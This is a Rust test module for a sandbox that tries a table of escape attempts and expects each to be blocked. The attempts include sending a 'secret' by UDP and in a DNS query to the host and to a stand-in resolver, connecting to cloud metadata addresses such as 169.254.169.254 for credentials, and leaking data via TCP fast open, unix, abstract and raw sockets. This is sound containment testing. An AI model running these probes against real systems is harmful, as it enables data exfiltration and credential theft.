//! Attacks that try to reach other processes: networks, unix sockets in files, abstract sockets.

use std::{
    io::{self, Read, Write},
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket},
    os::linux::net::SocketAddrExt,
    os::unix::ffi::OsStrExt,
    os::unix::net::{SocketAddr as UnixAddress, UnixDatagram, UnixStream},
    path::Path,
    time::Duration,
};

use super::{
    Attack, Inside, Verdict,
    call::{call, of, signed},
    must_fail, none_works, row,
};

pub fn table() -> Vec<Attack> {
    let mut table = vec![
        row("tcp_to_the_host", "a service on the host's loopback or address is reached", NETWORK, tcp)
            .unjailed(),
        row("udp_to_the_host", "a datagram reaches the host", NETWORK, udp).unjailed(),
        row("dns_exfiltration", "a secret leaves in a DNS query", NETWORK, dns).unjailed(),
        row("metadata_service", "the cloud metadata service returns credentials", NETWORK, |_| outwards()),
        row(
            "fast_open",
            "data leaves with the first packet (fast open), past checks of `connect`",
            NETWORK,
            fast_open,
        )
        .unjailed(),
        row("unix_socket", "a socket file such as Docker's is reached", UNIX, |inside| {
            must_fail(UnixStream::connect(inside.outside().join("door")))
        })
        .unjailed(),
        row("unix_socket_in_bind", "a socket file in a read-only directory is reached", UNIX, |inside| {
            must_fail(UnixStream::connect(inside.read().join("door")))
        })
        .unjailed(),
        row("unix_datagram", "a datagram is sent to a socket file", UNIX, datagram).unjailed(),
        row("unix_pair_to_path", "one end of a socket pair sends to a path", UNIX, pair).unjailed(),
        row("abstract_socket", "an abstract socket is reached", UNIX, abstract_socket).unjailed(),
        row("received_descriptor", "a process outside passes a descriptor in", UNIX, received).unjailed(),
        row("proxied_elsewhere", "with a proxy: the host is reached past it", PROXIED, tcp).proxied(),
        row("proxied_datagrams", "with a proxy: a datagram reaches the host", PROXIED, udp).proxied(),
        row("proxied_dns", "with a proxy: another resolver is reached", PROXIED, dns).proxied(),
        row("proxied_fast_open", "with a proxy: data leaves past `connect`", PROXIED, fast_open).proxied(),
        row("proxy_of_another", "with a proxy: the proxy of another jail is reached", PROXIED, other_proxy)
            .proxied(),
        row("proxied_listener", "with a proxy: the command listens for connections", PROXIED, listener)
            .proxied(),
        row("proxied_unix", "with a proxy: a socket file is reached", PROXIED, |inside| {
            none_works([
                ("file", UnixStream::connect(inside.read().join("door"))),
                ("abstract", abstract_stream(inside)),
            ])
        })
        .proxied(),
        row("proxied_raw", "with a proxy: raw sockets", PROXIED, |_| none_works(RAW.map(open))).proxied(),
    ];
    table.extend(families());
    table
}

fn families() -> Vec<Attack> {
    vec![
        row("netlink_socket", "netlink: routes, devices, audit of the kernel", SECCOMP, |_| {
            none_works(
                [0, 9, 15, 16].map(|protocol| open(("netlink", libc::AF_NETLINK, libc::SOCK_RAW, protocol))),
            )
        })
        .unjailed(),
        row("raw_socket", "raw packets are sent", SECCOMP, |_| none_works(RAW.map(open))).unjailed_root(),
        row("packet_socket", "all network traffic is captured", SECCOMP, |_| {
            must_fail(open(("packet", libc::AF_PACKET, libc::SOCK_RAW, 0x300)).1)
        })
        .unjailed_root(),
        row("vsock", "the hypervisor of a virtual machine is reached", SECCOMP, |_| {
            must_fail(open(("vsock", libc::AF_VSOCK, libc::SOCK_STREAM, 0)).1)
        })
        .unjailed(),
        row("crypto_socket", "the kernel's cipher interface, which is often vulnerable", SECCOMP, |_| {
            must_fail(open(("alg", libc::AF_ALG, libc::SOCK_SEQPACKET, 0)).1)
        }),
        row("bluetooth_socket", "radio", SECCOMP, |_| {
            must_fail(open(("bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1)).1)
        }),
        row("rare_sockets", "unmaintained socket families", SECCOMP, |_| {
            let rare = [3, 4, 5, 6, 8, 9, 20, 21, 24, 26, 28, 29, 30, 35, 39, 41, 44, 45];
            none_works(rare.map(|family| open(("rare", family, libc::SOCK_DGRAM, 0))))
        }),
        row("internet_sockets", "any internet socket without network access", SECCOMP, |_| {
            none_works([
                open(("tcp", libc::AF_INET, libc::SOCK_STREAM, 0)),
                open(("udp", libc::AF_INET, libc::SOCK_DGRAM, 0)),
                open(("tcp 6", libc::AF_INET6, libc::SOCK_STREAM, 0)),
                open(("sctp", libc::AF_INET, libc::SOCK_SEQPACKET, 132)),
                open(("mptcp", libc::AF_INET, libc::SOCK_STREAM, 262)),
                open(("ping", libc::AF_INET, libc::SOCK_DGRAM, 1)),
            ])
        })
        .unjailed(),
    ]
}

fn open((name, family, kind, protocol): (&'static str, i32, i32, i32)) -> (&'static str, io::Result<usize>) {
    (name, call(libc::SYS_socket, &[signed(family), signed(kind), signed(protocol)]))
}

/// Every address that might reach the host.
fn addresses(inside: &Inside) -> Vec<IpAddr> {
    let mut all = vec![
        IpAddr::from(Ipv4Addr::LOCALHOST),
        inside.host,
        Ipv4Addr::UNSPECIFIED.into(),
        Ipv4Addr::new(127, 9, 9, 9).into(),
        Ipv6Addr::LOCALHOST.into(),
    ];
    if let IpAddr::V4(host) = inside.host {
        all.push(host.to_ipv6_mapped().into());
        all.push(Ipv4Addr::LOCALHOST.to_ipv6_mapped().into());
    }
    all
}

fn tcp(inside: &Inside) -> Verdict {
    none_works(
        addresses(inside).into_iter().map(|address| {
            ("connect", TcpStream::connect_timeout(&SocketAddr::new(address, inside.tcp), SHORT))
        }),
    )
}

/// Sending may succeed although the packet is dropped: only what arrives counts.
fn udp(inside: &Inside) -> Verdict {
    let sent: Vec<String> = send_to_all(inside, b"secret").iter().map(|sent| format!("{sent:?}")).collect();
    Verdict::Held(sent.join("; "))
}

fn send_to_all(inside: &Inside, bytes: &[u8]) -> Vec<io::Result<usize>> {
    let send = |address: IpAddr| {
        let any: IpAddr =
            if address.is_ipv4() { Ipv4Addr::UNSPECIFIED.into() } else { Ipv6Addr::UNSPECIFIED.into() };
        UdpSocket::bind((any, 0))?.send_to(bytes, (address, inside.udp))
    };
    addresses(inside).into_iter().map(send).collect()
}

fn dns(inside: &Inside) -> Verdict {
    let mut query =
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"
            .to_vec();
    let sent = send_to_all(inside, &query);
    query.splice(0..0, [0, 37]);
    let to = |address: SocketAddr| TcpStream::connect_timeout(&address, SHORT);
    let resolvers = [SocketAddr::new(inside.host, inside.tcp), "192.0.2.53:53".parse().unwrap()];
    for resolver in resolvers {
        if let Ok(mut connection) = to(resolver) {
            let _ = connection.write_all(&query);
            return Verdict::Broke(format!("{resolver} listens"));
        }
    }
    Verdict::Held(format!("{sent:?}"))
}

fn outwards() -> Verdict {
    none_works(
        ["169.254.169.254:80", "192.0.2.1:443", "[fd00:ec2::254]:80", "100.100.100.200:80"]
            .map(|to| ("connect", TcpStream::connect_timeout(&to.parse().unwrap(), SHORT))),
    )
}

fn fast_open(inside: &Inside) -> Verdict {
    let stream = |family: i32| open(("tcp", family, libc::SOCK_STREAM, 0)).1;
    let send = |address: IpAddr| {
        let IpAddr::V4(address) = address else { return Err(io::ErrorKind::Unsupported.into()) };
        let socket = stream(libc::AF_INET)?;
        let mut name = internet_name(address, inside.tcp);
        let mut bytes = *b"secret";
        let flags = usize::try_from(libc::MSG_FASTOPEN | libc::MSG_DONTWAIT).unwrap();
        call(libc::SYS_sendto, &[socket, of(&mut bytes), 6, flags, of(&mut name), 16])
    };
    let answers: Vec<String> =
        addresses(inside).into_iter().map(send).map(|answer| format!("{answer:?}")).collect();
    std::thread::sleep(Duration::from_millis(20));
    Verdict::Held(answers.join("; "))
}

fn internet_name(address: Ipv4Addr, port: u16) -> [u8; 16] {
    let mut name = [0; 16];
    name[..2].copy_from_slice(&u16::try_from(libc::AF_INET).unwrap().to_ne_bytes());
    name[2..4].copy_from_slice(&port.to_be_bytes());
    name[4..8].copy_from_slice(&address.octets());
    name
}

fn datagram(inside: &Inside) -> Verdict {
    must_fail(UnixDatagram::unbound().and_then(|socket| socket.send_to(b"x", inside.read().join("letters"))))
}

fn pair(inside: &Inside) -> Verdict {
    let letters = inside.read().join("letters");
    let datagrams = UnixDatagram::pair().and_then(|(one, _other)| one.send_to(b"x", &letters));
    let streams = UnixStream::pair().and_then(|(one, _other)| {
        let mut name = unix_name(&letters);
        let mut bytes = *b"x";
        let socket = super::call::descriptor(&one);
        let length = name.len();
        let address = of(name.as_mut_slice());
        call(libc::SYS_sendto, &[socket, of(&mut bytes), 1, 0, address, length])
            .and_then(|_| call(libc::SYS_connect, &[socket, address, length]))
    });
    none_works([("datagrams", datagrams), ("streams", streams)])
}

fn unix_name(path: &Path) -> Vec<u8> {
    let mut name = u16::try_from(libc::AF_UNIX).unwrap().to_ne_bytes().to_vec();
    name.extend(path.as_os_str().as_bytes());
    name.push(0);
    name
}

fn abstract_stream(inside: &Inside) -> io::Result<UnixStream> {
    UnixStream::connect_addr(&UnixAddress::from_abstract_name(&inside.abstract_name)?)
}

fn abstract_socket(inside: &Inside) -> Verdict {
    must_fail(abstract_stream(inside))
}

fn received(inside: &Inside) -> Verdict {
    let connected = abstract_stream(inside).or_else(|_| UnixStream::connect(inside.outside().join("door")));
    let own = UnixDatagram::bind(inside.work().join("free/own"));
    none_works([
        ("connect", connected.map(|stream| format!("{stream:?}"))),
        ("wait for it", own.map(|socket| format!("{socket:?}"))),
    ])
}

fn other_proxy(inside: &Inside) -> Verdict {
    none_works(addresses(inside).into_iter().map(|address| {
        ("connect", TcpStream::connect_timeout(&SocketAddr::new(address, inside.other_proxy), SHORT))
    }))
}

fn listener(_: &Inside) -> Verdict {
    let listen = |address: &str| {
        let listener = TcpListener::bind(address)?;
        listener.set_nonblocking(true)?;
        let (mut peer, _) = listener.accept()?;
        peer.read(&mut [0])
    };
    none_works([
        ("port", listen("0.0.0.0:8080")),
        ("the proxy's own", listen("127.0.0.1:3128")),
        ("any", listen("0.0.0.0:0")),
    ])
}

const RAW: [(&str, i32, i32, i32); 4] = [
    ("icmp", libc::AF_INET, libc::SOCK_RAW, 1),
    ("tcp", libc::AF_INET, libc::SOCK_RAW, 6),
    ("ip", libc::AF_INET, libc::SOCK_RAW, 255),
    ("icmp 6", libc::AF_INET6, libc::SOCK_RAW, 58),
];
const SHORT: Duration = Duration::from_millis(100);
const NETWORK: &str = "seccomp; network namespace";
const UNIX: &str = "seccomp: no socket of this family; Landlock scope";
const PROXIED: &str = "a network with nothing but the proxy; Landlock; seccomp";
const SECCOMP: &str = "seccomp";
